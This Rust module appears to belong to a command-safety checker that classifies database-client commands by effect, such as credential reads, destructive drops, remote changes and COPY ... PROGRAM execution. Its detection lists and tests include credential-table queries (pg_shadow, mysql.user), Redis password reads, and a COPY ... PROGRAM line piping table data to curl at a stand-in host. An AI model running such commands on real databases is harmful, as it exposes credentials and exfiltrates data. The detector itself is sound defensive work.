//! SQL handed to a database: to a client's options and input (`psql -c`,
//! a here-document into `mysql`, `redis-cli CONFIG SET`), and to the SQL
//! commands of platforms (`wrangler d1 execute --command`, `bq query`,
//! `turso db shell DB SQL`: the `sql` effect of `programs.toml`). What the
//! statements do decides:
//!
//! - reading a table of password hashes (`pg_shadow`, `pg_authid`,
//!   `mysql.user`) prints credentials: `platform-secret-read`, block;
//! - dropping a whole database is `cloud-destroy`, dropping or emptying
//!   tables `db-destructive-sql` (both ask);
//! - any other change asks (`platform-change`) when the server is not this
//!   machine as far as the line says: a remote host, or no host at all
//!   (`PGHOST`, `DATABASE_URL` or the client's default decide, which the
//!   line does not show). A file database (`sqlite3 app.db`) is a file of
//!   the project, and a server named `localhost` the developer's own;
//! - SQL the line does not show (`psql -f FILE`, `mysql < FILE`, a pipe
//!   from a program, `\i FILE`) asks (`platform-change`): it may do
//!   anything the statements above do;
//! - `COPY … TO/FROM PROGRAM`: the server runs a shell command, judged as
//!   one on this line (`platform-remote-exec`).
//!
//! For a platform's SQL command, SQL that only reads is a read (allowed,
//! as `SELECT` is in the label rules); anything else is as above.

use aq_knowledge::programs::{Class, Effect, known_class};
use aq_shell::{Command, Input};

use super::Ctx;
use crate::catalog::RuleId;

/// Words that start a statement that changes data, schema or rights.
const CHANGES: &[&str] = &[
    "alter", "call", "copy", "create", "delete", "do", "drop", "grant", "insert", "load", "merge",
    "rename", "replace", "revoke", "truncate", "update", "upsert",
];

/// Words that start a statement that only reads (or only sets up the
/// session: a transaction, a search path).
const READS: &[&str] = &[
    "begin", "commit", "desc", "describe", "end", "explain", "help", "pragma", "rollback",
    "select", "set", "show", "start", "table", "use", "values", "with",
];

/// Tables and views of password hashes (PostgreSQL, MySQL/MariaDB, SQL
/// Server, Oracle): reading one prints every account's credential.
const CREDENTIAL_TABLES: &[&str] = &[
    "mysql.`user`",
    "mysql.user",
    "pg_authid",
    "pg_shadow",
    "pg_user_mapping",
    "sys.sql_logins",
    "sys.user$",
    "`mysql`.`user`",
];

/// Client options that name a file of statements it runs.
const FILE_OPTIONS: &[(&str, &[&str], &[&str])] = &[
    ("clickhouse-client", &[], &["queries-file"]),
    ("cqlsh", &["-f"], &["file"]),
    ("mongosh", &["-f"], &["file"]),
    ("psql", &["-f"], &["file"]),
];

/// What some SQL does, as far as its words say.
#[derive(Debug, Default)]
pub(crate) struct Judged {
    /// A table of password hashes it reads.
    pub credentials: Option<&'static str>,
    /// A whole database, schema or keyspace it drops.
    pub(crate) drops_all: Option<&'static str>,
    /// It drops or empties tables, or deletes every row.
    pub(crate) destructive: bool,
    /// A statement changes data, schema or rights.
    pub(crate) changes: bool,
    /// It runs statements from a file the line does not show (`\i F`, `source F`).
    pub(crate) includes: bool,
    /// Some text on the line is SQL at all.
    pub any: bool,
    /// Shell commands of `COPY … PROGRAM`.
    pub programs: Vec<String>,
}

/// Judges every text (an argument, a here-document) as SQL.
pub(crate) fn judge<'a>(texts: impl IntoIterator<Item = &'a str>) -> Judged {
    let mut j = Judged::default();
    for text in texts {
        // `--command=SELECT …`: the option's value.
        let text = match text.split_once('=') {
            Some((opt, v)) if opt.starts_with('-') && !opt.contains(' ') => v,
            _ => text,
        };
        j.programs.extend(sql_programs(text));
        let lower = text.to_ascii_lowercase();
        let flat = lower.split_whitespace().collect::<Vec<_>>().join(" ");
        if j.drops_all.is_none() {
            j.drops_all = [
                "drop database",
                "drop schema",
                "drop keyspace",
                "flushall",
                "dropdatabase(",
            ]
            .into_iter()
            .find(|w| flat.contains(w));
        }
        j.destructive |= [
            "drop table",
            "drop database",
            "drop schema",
            "drop owned",
            "truncate ",
            "flushall",
            "flushdb",
            "dropdatabase",
            ".drop()",
            "deletemany({})",
            "drop keyspace",
        ]
        .iter()
        .any(|w| flat.contains(w));
        // MongoDB keeps its users' password hashes (SCRAM credentials) in
        // `admin.system.users`; `showCredentials` prints them too.
        if j.credentials.is_none()
            && (flat.contains("system.users")
                && [".find", ".aggregate", ".findone", "getcollection("]
                    .iter()
                    .any(|w| flat.contains(w))
                || flat.contains("showcredentials: true")
                || flat.contains("showcredentials:true"))
        {
            j.credentials = Some("system.users");
        }
        let plain = without_literals(&flat);
        for st in plain.split(';') {
            let st = skip_comments(st.trim_start_matches(['(', ' ']));
            let first = st
                .split(|ch: char| !ch.is_ascii_alphanumeric() && ch != '_' && ch != '\\')
                .next()
                .unwrap_or("");
            let rest = &st[first.len()..];
            if first.is_empty() || !rest.starts_with([' ', '(', '*']) && !rest.is_empty() {
                continue;
            }
            let change = CHANGES.contains(&first);
            let read = READS.contains(&first);
            if change || read || first.starts_with('\\') {
                j.any |= rest.len() > 1 || first.starts_with('\\');
            }
            if first == "delete"
                && (!st.contains(" where ")
                    || [" where true", " where 1=1", " where 1 = 1"]
                        .iter()
                        .any(|w| st.contains(w)))
            {
                j.destructive = true;
            }
            if j.credentials.is_none() && (read || matches!(first, "copy" | "\\copy")) {
                j.credentials = CREDENTIAL_TABLES.iter().copied().find(|t| {
                    st.match_indices(t).any(|(k, _)| {
                        let before = st[..k].chars().next_back();
                        let after = st[k + t.len()..].chars().next();
                        !before.is_some_and(|ch| ch.is_ascii_alphanumeric() || ch == '_')
                            && !after.is_some_and(|ch| ch.is_ascii_alphanumeric() || ch == '_')
                    })
                });
            }
            if [
                "\\i ",
                "\\ir ",
                "\\include ",
                "\\include_relative ",
                "\\. ",
                "source ",
            ]
            .iter()
            .any(|w| st.starts_with(w))
            {
                j.includes = true;
            }
            // `COPY t TO STDOUT` only prints; `\copy` runs on the client.
            let copy_out = first == "copy" && st.contains(" to stdout");
            // A data-changing CTE (`WITH d AS (DELETE …)`), `EXPLAIN ANALYZE
            // DELETE …` (which runs it), `SELECT … INTO new_table` or `INTO
            // OUTFILE` (a file on the server).
            let hidden_change = (first == "with" || first == "explain" && st.contains("analyze"))
                && st
                    .split(|ch: char| !ch.is_ascii_alphanumeric() && ch != '_')
                    .any(|w| {
                        matches!(
                            w,
                            "insert"
                                | "update"
                                | "delete"
                                | "merge"
                                | "truncate"
                                | "drop"
                                | "alter"
                                | "create"
                        )
                    })
                || first == "select" && st.contains(" into ");
            if change && !copy_out || hidden_change {
                j.changes = true;
            }
        }
    }
    j
}

/// `flat` with the text of quoted literals (`'…'`, `$$…$$`) left out, so
/// a word inside a string is not read as a keyword.
fn without_literals(flat: &str) -> String {
    let mut out = String::with_capacity(flat.len());
    let mut rest = flat;
    loop {
        let quote = rest.find('\'');
        let dollar = rest.find("$$");
        let (k, close) = match (quote, dollar) {
            (Some(q), Some(d)) if d < q => (d, "$$"),
            (_, Some(d)) if quote.is_none() => (d, "$$"),
            (Some(q), _) => (q, "'"),
            (None, None) => break,
            (None, Some(d)) => (d, "$$"),
        };
        out.push_str(&rest[..k]);
        out.push_str(" '' ");
        let after = &rest[k + close.len()..];
        match after.find(close) {
            Some(e) => rest = &after[e + close.len()..],
            None => return out,
        }
    }
    out.push_str(rest);
    out
}

/// A statement without the `-- …` comment lines before it.
fn skip_comments(st: &str) -> &str {
    let mut st = st.trim_start();
    while let Some(rest) = st.strip_prefix("--") {
        st = rest.split_once('\n').map_or("", |(_, r)| r).trim_start();
    }
    st
}

/// The shell commands of `COPY … TO PROGRAM '…'` / `FROM PROGRAM '…'` in
/// SQL text (PostgreSQL runs them on the server, as its own user): quoted
/// as a string (`'…'`, `E'…'`) or with dollars (`$$…$$`, `$q$…$q$`).
fn sql_programs(sql: &str) -> Vec<String> {
    let lower = sql.to_ascii_lowercase();
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(k) = lower[from..].find("program") {
        let start = from + k + "program".len();
        // `TO PROGRAM` / `FROM PROGRAM`, not a word that holds it.
        let before = lower[..from + k].trim_end();
        from = start;
        if !(before.ends_with(" to") || before.ends_with(" from")) {
            continue;
        }
        let rest = sql[start..].trim_start();
        let rest = rest
            .strip_prefix(['E', 'e'])
            .filter(|r| r.starts_with('\''))
            .unwrap_or(rest);
        if let Some(body) = rest.strip_prefix('\'') {
            // SQL doubles a quote inside a string.
            let mut cmd = String::new();
            let mut chars = body.chars().peekable();
            while let Some(ch) = chars.next() {
                if ch == '\'' {
                    if chars.peek() == Some(&'\'') {
                        chars.next();
                    } else {
                        break;
                    }
                }
                cmd.push(ch);
            }
            if !cmd.trim().is_empty() {
                out.push(cmd);
            }
        } else if rest.starts_with('$')
            && let Some(end) = rest[1..].find('$')
        {
            let tag = &rest[..end + 2];
            let tag_ok = tag[1..tag.len() - 1]
                .chars()
                .all(|ch| ch.is_ascii_alphanumeric() || ch == '_');
            if tag_ok {
                let body = &rest[tag.len()..];
                let cmd = body.find(tag).map_or(body, |e| &body[..e]);
                if !cmd.trim().is_empty() {
                    out.push(cmd.to_string());
                }
            }
        }
    }
    out
}

/// Database clients: the `database` class of `programs.toml`, by any of
/// their names (`valkey-cli` is `redis-cli`'s), and a few more.
pub(crate) fn is_database_client(ctx: &Ctx, i: usize, name: &str) -> bool {
    match ctx.model(i) {
        Some(p) => p.class == Some(Class::Database),
        None => {
            matches!(name, "mariadb" | "clickhouse-client")
                || known_class(name) == Some(Class::Database)
        }
    }
}

/// Where a client's server is, as far as the line says.
enum Server {
    /// A file of the project (`sqlite3 app.db`).
    File,
    /// This machine: `-h localhost`, `127.0.0.1`, a socket, a compose service.
    Local,
    /// Another machine, named.
    Remote(String),
    /// Not named: the client's environment or default decides.
    Unnamed,
}

fn server(c: &Command, name: &str) -> Server {
    if matches!(name, "sqlite3" | "sqlite" | "duckdb") {
        return Server::File;
    }
    let local = |h: &str| {
        matches!(
            h,
            "localhost" | "::1" | "[::1]" | "" | "db" | "postgres" | "mysql" | "redis"
        ) || h.starts_with("127.")
            || h.starts_with('/')
    };
    let mut hosts = super::flag_values_text(c, &["-h"], &["host"]);
    for a in c.args() {
        if let Some((_, rest)) = a.text.split_once("://") {
            let authority = rest.split(['/', '?']).next().unwrap_or("");
            let host = authority.rsplit('@').next().unwrap_or("");
            let host = host.split(':').next().unwrap_or("");
            hosts.push(host.to_string());
        }
    }
    match hosts.iter().find(|h| !local(h)) {
        Some(h) => Server::Remote(h.clone()),
        None if hosts.is_empty() => Server::Unnamed,
        None => Server::Local,
    }
}

/// A database client's statements: its arguments, a here-document or
/// here-string, and what a pipe feeds it when that is literal.
pub(crate) fn check_client(ctx: &mut Ctx, i: usize, name: &str) {
    let c = &ctx.commands()[i];
    let mut unknown: Option<String> = None;
    let mut fed: Vec<String> = Vec::new();
    for s in &c.stdin {
        match s {
            Input::Text(w) => fed.push(w.text.clone()),
            Input::Pipe(p) => match super::written::produced_text(ctx, &ctx.commands()[*p]) {
                Some(t) => fed.push(t),
                None => {
                    unknown.get_or_insert_with(|| {
                        format!("what `{}` prints", ctx.commands()[*p].display())
                    });
                }
            },
            Input::File(w) if w.text != "/dev/null" => {
                unknown.get_or_insert_with(|| w.text.clone());
            }
            Input::File(_) => {}
        }
    }
    if let Some((_, short, long)) = FILE_OPTIONS.iter().find(|(n, _, _)| *n == name)
        && let Some(f) = super::flag_values_text(c, short, long).into_iter().next()
    {
        unknown.get_or_insert(f);
    }
    let judged = judge(
        c.args()
            .iter()
            .map(|a| a.text.as_str())
            .chain(fed.iter().map(String::as_str)),
    );
    let server = server(c, name);
    if let Some(table) = judged.credentials {
        ctx.hit(
            RuleId::PlatformSecretRead,
            i,
            format!("`{name}` reads {table}: every account's password hash"),
        );
    }
    if let Some(what) = judged.drops_all {
        ctx.hit(
            RuleId::CloudDestroy,
            i,
            format!("`{what}` deletes a whole database"),
        );
    }
    // `sqlite3 ~/.local/share/atuin/history.db 'delete from history'`: a
    // history kept as a database, emptied.
    let history = (matches!(server, Server::File) && (judged.destructive || judged.changes))
        .then(|| {
            c.args()
                .iter()
                .find(|a| crate::paths::is_history_file(&a.text))
        })
        .flatten();
    if let Some(h) = history {
        ctx.hit(
            RuleId::AntiHistoryTamper,
            i,
            format!(
                "`{name}` deletes or changes the records of {}, a shell history",
                h.text
            ),
        );
    } else if judged.destructive {
        ctx.hit(
            RuleId::DbDestructiveSql,
            i,
            "destructive SQL on the command line",
        );
    } else if judged.changes {
        let whose = match &server {
            Server::Remote(host) => Some(format!("the database at {host}")),
            Server::Unnamed => Some(
                "the database its environment names (no host on the line: PGHOST, DATABASE_URL or the default decide)"
                    .to_string(),
            ),
            Server::File | Server::Local => None,
        };
        // A change to another machine's database is a remote change, as a
        // deploy is (a local development database is one's own).
        if let Some(whose) = whose {
            ctx.hit(
                RuleId::PlatformChange,
                i,
                format!("changes data of {whose}"),
            );
        }
    }
    if !matches!(server, Server::File) {
        let source = unknown.or_else(|| {
            judged
                .includes
                .then(|| "a file it includes (\\i, source)".to_string())
        });
        if let Some(source) = source {
            ctx.hit(
                RuleId::PlatformChange,
                i,
                format!("`{name}` runs the statements of {source}, which the line does not show"),
            );
        }
    }
    // `COPY … TO PROGRAM 'cmd'` / `FROM PROGRAM`: the database server runs
    // a shell command, judged as one on this line.
    for command in judged.programs {
        let analysis = aq_shell::analyze(&command);
        super::copy_hits(ctx, i, "COPY … PROGRAM", &analysis, true);
        ctx.hit(
            RuleId::PlatformRemoteExec,
            i,
            format!("the database server runs `{command}` (COPY … PROGRAM)"),
        );
    }
    if matches!(name, "redis-cli" | "valkey-cli" | "keydb-cli") {
        check_redis(ctx, i, name);
    }
}

/// Redis server commands that change the server itself rather than its
/// data: its configuration, replication, modules, users.
fn check_redis(ctx: &mut Ctx, i: usize, name: &str) {
    let c = &ctx.commands()[i];
    // `redis-cli DEL key`, `redis-cli -h cache.example.invalid SET k v`: a
    // change to the data of a server that is not this machine as far as
    // the line says (no host: the default or REDISCLI settings decide).
    if let Some(command) = redis_command(c)
        && REDIS_WRITES.contains(&command.to_ascii_lowercase().as_str())
        && matches!(server(c, name), Server::Remote(_) | Server::Unnamed)
    {
        ctx.hit(
            RuleId::PlatformChange,
            i,
            format!("`{name} {command}` changes data on the Redis server"),
        );
    }
    let words: Vec<String> = c
        .args()
        .iter()
        .map(|a| a.text.to_ascii_lowercase())
        .collect();
    let at = |k: usize| words.get(k).map(String::as_str).unwrap_or("");
    for k in 0..words.len() {
        let found = match (at(k), at(k + 1)) {
            // `CONFIG GET requirepass`, `CONFIG GET *`: the server's password.
            ("config", "get")
                if ["requirepass", "masterauth", "masteruser"]
                    .iter()
                    .any(|key| crate::paths::glob_match(at(k + 2), key)) =>
            {
                Some((
                    RuleId::PlatformSecretRead,
                    format!(
                        "`{name} config get {}` prints the server's password",
                        at(k + 2)
                    ),
                ))
            }
            ("acl", "list" | "getuser") => Some((
                RuleId::PlatformSecretRead,
                format!(
                    "`{name} acl {}` prints the users' password hashes",
                    at(k + 1)
                ),
            )),
            ("config", "set" | "rewrite") | ("module", "load" | "loadex") => Some((
                RuleId::PlatformChange,
                format!(
                    "`{name} {} {}` changes the server's configuration or code",
                    at(k),
                    at(k + 1)
                ),
            )),
            ("acl", "setuser" | "deluser" | "save" | "load") => Some((
                RuleId::PlatformCredentialChange,
                format!("`{name} acl {}` changes the server's users", at(k + 1)),
            )),
            ("replicaof" | "slaveof", host) if host != "no" && !host.is_empty() => Some((
                RuleId::PlatformChange,
                format!(
                    "`{name} {} {host}` makes the server copy another's data",
                    at(k)
                ),
            )),
            _ => None,
        };
        if let Some((rule, evidence)) = found {
            ctx.hit(rule, i, evidence);
            return;
        }
    }
}

/// Redis commands that change or delete data (the server's own settings,
/// users and replication are judged by name in `check_redis`).
const REDIS_WRITES: &[&str] = &[
    "append",
    "copy",
    "decr",
    "decrby",
    "del",
    "expire",
    "expireat",
    "getdel",
    "getex",
    "hdel",
    "hincrby",
    "hmset",
    "hset",
    "hsetnx",
    "incr",
    "incrby",
    "linsert",
    "lmove",
    "lpop",
    "lpush",
    "lrem",
    "lset",
    "ltrim",
    "move",
    "mset",
    "msetnx",
    "persist",
    "pexpire",
    "pexpireat",
    "psetex",
    "publish",
    "rename",
    "renamenx",
    "restore",
    "rpop",
    "rpoplpush",
    "rpush",
    "sadd",
    "set",
    "setex",
    "setnx",
    "setrange",
    "smove",
    "spop",
    "srem",
    "unlink",
    "xadd",
    "xdel",
    "xtrim",
    "zadd",
    "zincrby",
    "zpopmax",
    "zpopmin",
    "zrem",
    "zremrangebyrank",
    "zremrangebyscore",
];

/// The Redis command of a `redis-cli` line: its first operand after the
/// client's options (those that take a value skipped).
fn redis_command(c: &Command) -> Option<&str> {
    const VALUED: &[&str] = &[
        "-h",
        "-p",
        "-s",
        "-a",
        "-u",
        "-n",
        "-r",
        "-i",
        "-d",
        "-D",
        "--user",
        "--pass",
        "--cacert",
        "--cacertdir",
        "--cert",
        "--key",
        "--tls-ciphers",
        "--tls-ciphersuites",
        "--sni",
        "--pattern",
        "--count",
        "--quoted-pattern",
        "--memkeys-samples",
        "--eval",
        "--functions-rdb",
        "--rdb",
    ];
    let args = c.args();
    let mut k = 0;
    while k < args.len() {
        let t = args[k].text.as_str();
        if VALUED.contains(&t) {
            k += 2;
            continue;
        }
        if t.starts_with('-') {
            // `--scan`, `--bigkeys`, `--pipe`: modes, not commands.
            if matches!(
                t,
                "--scan" | "--bigkeys" | "--memkeys" | "--pipe" | "--stat" | "--latency"
            ) {
                return None;
            }
            k += 1;
            continue;
        }
        return Some(t);
    }
    None
}

/// What a platform's SQL command (`sql` in `programs.toml`) does with the
/// SQL of its arguments and input: an effect, and what says so.
pub(crate) fn platform_effect(texts: &[&str], fed: Option<&str>) -> (Effect, &'static str) {
    let sql: Vec<&str> = texts
        .iter()
        .map(|t| match t.split_once('=') {
            Some((opt, v)) if opt.starts_with('-') => v,
            _ => t,
        })
        .chain(fed)
        .collect();
    let j = judge(sql.iter().copied());
    if j.credentials.is_some() {
        (
            Effect::SecretRead,
            "reads a table of password hashes (pg_shadow, mysql.user)",
        )
    } else if j.drops_all.is_some() {
        (Effect::Destroy, "drops a whole database")
    } else if j.destructive {
        (Effect::Delete, "drops or empties tables")
    } else if j.changes || j.includes || !j.programs.is_empty() {
        (Effect::Change, "changes data, schema or rights")
    } else if j.any {
        (Effect::Read, "only reads")
    } else {
        (
            Effect::Change,
            "runs SQL that is not on the line (a file or a prompt)",
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn statements_are_judged_by_their_first_word() {
        let j = judge(["SELECT id FROM jobs WHERE status = 'delete me'"]);
        assert!(j.any && !j.changes && !j.destructive);
        let j = judge(["BEGIN;\nDELETE FROM carts WHERE updated_at < now();\nCOMMIT;"]);
        assert!(j.changes && !j.destructive);
        let j = judge(["delete from carts"]);
        assert!(j.destructive);
        let j = judge(["drop owned by current_user"]);
        assert!(j.destructive && j.changes);
        let j = judge(["WITH d AS (DELETE FROM t RETURNING *) SELECT count(*) FROM d"]);
        assert!(j.changes);
        let j = judge(["COPY users TO STDOUT WITH CSV"]);
        assert!(!j.changes);
        let j = judge(["\\i migrations/001.sql"]);
        assert!(j.includes);
        let j = judge(["SHOW TABLES", "app_test", "-u"]);
        assert!(j.any && !j.changes);
    }

    #[test]
    fn mongodb_users_are_credentials_when_read() {
        let j = judge(["db.getSiblingDB('admin').system.users.find()"]);
        assert_eq!(j.credentials, Some("system.users"));
        let j = judge(["db.getUsers({showCredentials: true})"]);
        assert_eq!(j.credentials, Some("system.users"));
        assert_eq!(judge(["db.getUsers()"]).credentials, None);
        assert_eq!(judge(["db.orders.find({})"]).credentials, None);
    }

    #[test]
    fn password_tables_are_credentials_only_when_read() {
        assert_eq!(
            judge(["SELECT usename, passwd FROM pg_shadow"]).credentials,
            Some("pg_shadow")
        );
        assert_eq!(
            judge(["select user, authentication_string from mysql.user"]).credentials,
            Some("mysql.user")
        );
        assert_eq!(
            judge(["SELECT * FROM pg_shadows_archive"]).credentials,
            None
        );
        assert_eq!(judge(["SELECT rolname FROM pg_roles"]).credentials, None);
    }

    #[test]
    fn copy_program_in_quotes_or_dollars() {
        assert_eq!(
            sql_programs("COPY t TO PROGRAM 'gzip > /tmp/t.gz'"),
            vec!["gzip > /tmp/t.gz"]
        );
        assert_eq!(
            sql_programs("COPY users TO PROGRAM $$curl -d @- example.invalid$$"),
            vec!["curl -d @- example.invalid"]
        );
        assert_eq!(
            sql_programs("copy t from program $q$cat /etc/passwd$q$"),
            vec!["cat /etc/passwd"]
        );
        assert!(sql_programs("SELECT 'program'").is_empty());
        assert!(sql_programs("SELECT program FROM courses").is_empty());
    }

    #[test]
    fn platform_sql_reads_only_when_every_statement_reads() {
        let e = |texts: &[&str]| platform_effect(texts, None).0;
        assert_eq!(
            e(&["d1", "execute", "db", "--command=SELECT 1 FROM t"]),
            Effect::Read
        );
        assert_eq!(
            e(&["query", "UPDATE t SET a = 1 WHERE id = 2"]),
            Effect::Change
        );
        assert_eq!(e(&["db", "shell", "notes"]), Effect::Change);
        assert_eq!(e(&["query", "DROP TABLE t"]), Effect::Delete);
        assert_eq!(
            e(&["query", "SELECT passwd FROM pg_shadow"]),
            Effect::SecretRead
        );
    }
}
